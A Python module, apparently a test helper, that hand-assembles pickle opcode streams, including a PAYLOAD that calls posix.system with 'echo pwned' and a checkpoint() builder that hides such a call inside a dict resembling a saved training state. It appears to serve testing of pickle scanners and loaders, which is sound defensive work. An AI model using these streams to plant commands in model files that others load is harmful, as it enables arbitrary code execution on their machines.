"""Pickle opcodes, written by hand: an assembler whose streams no pickler would write."""

from __future__ import annotations

import struct

COMMAND = "echo pwned"


def text(value: str) -> bytes:
    """BINUNICODE."""
    raw = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def blob(value: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(value)) + value


def value(item: str | bytes | int | None) -> bytes:
    """Opcodes of an argument; bytes are opcodes already."""
    if isinstance(item, bytes):
        return item
    if isinstance(item, str):
        return text(item)
    return b"N" if item is None else b"J" + struct.pack("<i", item)


def tuple_of(*items: str | bytes | int | None) -> bytes:
    """MARK … TUPLE."""
    return b"(" + b"".join(map(value, items)) + b"t"


def list_of(*items: str | bytes | int | None) -> bytes:
    """MARK … LIST."""
    return b"(" + b"".join(map(value, items)) + b"l"


def name(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(attribute) + b"\x93"


def old_name(module: str, attribute: str) -> bytes:
    """GLOBAL, as protocols 0 to 3 write it."""
    return f"c{module}\n{attribute}\n".encode()


def call(module: str, attribute: str, *arguments: str | bytes | int | None) -> bytes:
    """A name, its arguments, REDUCE."""
    return name(module, attribute) + tuple_of(*arguments) + b"R"


def stream(*parts: bytes, protocol: int = 4) -> bytes:
    """PROTO … STOP."""
    return b"\x80" + bytes([protocol]) + b"".join(parts) + b"."


def framed(*parts: bytes) -> bytes:
    """PROTO 4 with one FRAME around everything, as the pickler of Python writes it."""
    body = b"".join(parts) + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


PAYLOAD = framed(call("posix", "system", COMMAND))
"""The plainest attack: `os.system`, as `__reduce__` writes it on Linux."""


def checkpoint(*, attack: bytes = b"") -> bytes:
    """A dict such as training loops store, with an attack as one of its values."""
    items = text("epoch") + b"K\x03" + text("loss") + b"G" + struct.pack(">d", 0.25)
    hidden = text("hooks") + attack if attack else b""
    return framed(b"}(", items, text("names"), list_of("conv1.weight", "conv1.bias"), hidden, b"u")
